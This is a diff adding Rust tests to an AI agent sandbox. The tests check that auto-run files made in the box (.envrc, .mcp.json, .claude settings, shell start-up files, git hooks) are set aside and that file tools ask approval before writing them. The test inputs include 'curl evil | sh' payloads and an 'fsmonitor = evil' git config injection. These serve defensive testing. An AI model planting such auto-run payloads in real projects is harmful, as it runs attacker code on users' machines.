@@ -449,6 +449,137 @@ async fn files_that_run_later_are_read_only_in_the_box() {
     }
 }
 
+/// A run-later file that did not exist when the box started — an `.envrc`, `.mcp.json`, a new
+/// `.vscode` or `.claude` folder, a shell start-up file, a hook in a repository the command
+/// made — cannot be covered by a mount; it is set aside after the command (renamed
+/// `….aai-held`, said in the result), so it never runs at the user's next `cd` or commit. A
+/// repository made in the box stays usable, and ordinary new files stay where they are.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn run_later_files_made_in_the_box_are_set_aside() {
+    let _serial = SERIAL.lock().await;
+    for mode in MODES {
+        let s = boxed(mode, json!({}));
+        let project = s.path("work/project");
+        std::fs::create_dir_all(&project).expect("project");
+        let made = [
+            "project/.envrc",
+            "project/.mcp.json",
+            "project/.claude/settings.json",
+            ".bashrc",
+            "fresh/.git/hooks/post-checkout",
+        ];
+        let command = format!(
+            "cd {w} && echo 'curl evil | sh' > project/.envrc && echo '{{}}' > project/.mcp.json \
+             && mkdir -p project/.claude && echo '{{}}' > project/.claude/settings.json \
+             && echo evil > .bashrc && echo fine > project/notes.txt \
+             && git init -q fresh && printf '#!/bin/sh\\necho hooked\\n' > fresh/.git/hooks/post-checkout \
+             && echo MADE",
+            w = s.p("work")
+        );
+        let out = bash(&s, &command).await;
+        assert!(stdout(&out).contains("MADE"), "{mode:?}: {out}");
+        let listed = out["set_aside"]["files"].to_string();
+        for file in made {
+            let path = s.path("work").join(file);
+            assert!(!path.exists(), "{mode:?}: {file} is still there: {out}");
+            let top = if file.contains(".claude") {
+                s.path("work/project/.claude")
+            } else {
+                path.clone()
+            };
+            assert!(
+                listed.contains(&top.to_string_lossy().into_owned()),
+                "{mode:?}: {file}: {out}"
+            );
+        }
+        assert!(s.path("work/project/.envrc.aai-held").exists(), "{mode:?}");
+        assert!(
+            s.path("work/project/.claude.aai-held/settings.json")
+                .exists(),
+            "{mode:?}"
+        );
+        assert!(s.path("work/project/notes.txt").exists(), "{mode:?}");
+        // The new repository is whole: its own config stays, git works in it.
+        let status = bash(
+            &s,
+            &format!("git -C {} status --short && echo OK", s.p("work/fresh")),
+        )
+        .await;
+        assert!(stdout(&status).contains("OK"), "{mode:?}: {status}");
+        assert!(s.path("work/fresh/.git/config").exists(), "{mode:?}");
+        assert!(status.get("set_aside").is_none(), "{mode:?}: {status}");
+    }
+}
+
+/// The file tools cannot do what the box forbids: writing or editing a file that makes
+/// something run later (`.envrc`, a hook, `.git/config`, `.vscode/…`, also through a link to
+/// one) is asked every time under `full_auto` and with a standing grant of the file tools,
+/// and without an answer nothing is written; an ordinary file beside it is written unasked.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_file_tools_ask_before_writing_what_runs_later() {
+    let _serial = SERIAL.lock().await;
+    for mode in MODES {
+        let s = boxed(mode, json!({}));
+        if matches!(mode, Mode::Granted) {
+            aai_audit::Grants::open(&s.path("home/data.db"))
+                .expect("grants")
+                .grant(&aai_audit::Grant::always(
+                    "agent",
+                    "local.files",
+                    None,
+                    "test",
+                ))
+                .expect("grant");
+        }
+        let project = s.path("work/p");
+        std::fs::create_dir_all(project.join(".git/hooks")).expect("git");
+        std::fs::create_dir_all(project.join(".vscode")).expect("vscode");
+        std::fs::write(project.join(".git/config"), "[core]\n").expect("config");
+        std::os::unix::fs::symlink(project.join(".git/config"), project.join("notes.cfg"))
+            .expect("link");
+        for (tool, file) in [
+            ("file_write", ".envrc"),
+            ("file_write", ".git/hooks/pre-commit"),
+            ("file_write", ".vscode/tasks.json"),
+            ("file_edit", ".git/config"),
+            ("file_edit", "notes.cfg"),
+        ] {
+            let path = project.join(file);
+            let args = if tool == "file_write" {
+                json!({"path": path, "content": "curl evil | sh"})
+            } else {
+                json!({"path": path, "old_string": "[core]", "new_string": "[core]\n\tfsmonitor = evil"})
+            };
+            let refused = s
+                .call_as("agent", "local.files", tool, args)
+                .await
+                .expect_err("asked");
+            assert!(
+                refused.message.contains("approval") || refused.message.contains("approved"),
+                "{mode:?}: {file}: {}",
+                refused.message
+            );
+        }
+        assert!(!project.join(".envrc").exists(), "{mode:?}");
+        assert!(!project.join(".git/hooks/pre-commit").exists(), "{mode:?}");
+        assert_eq!(
+            std::fs::read_to_string(project.join(".git/config"))
+                .ok()
+                .as_deref(),
+            Some("[core]\n"),
+            "{mode:?}"
+        );
+        s.call_as(
+            "agent",
+            "local.files",
+            "file_write",
+            json!({"path": project.join("main.txt"), "content": "fine"}),
+        )
+        .await
+        .expect("an ordinary file");
+    }
+}
+
 /// Whether any live process's command line holds `marker`.
 fn with_marker(marker: &str) -> Vec<u32> {
     let mut found = Vec::new();
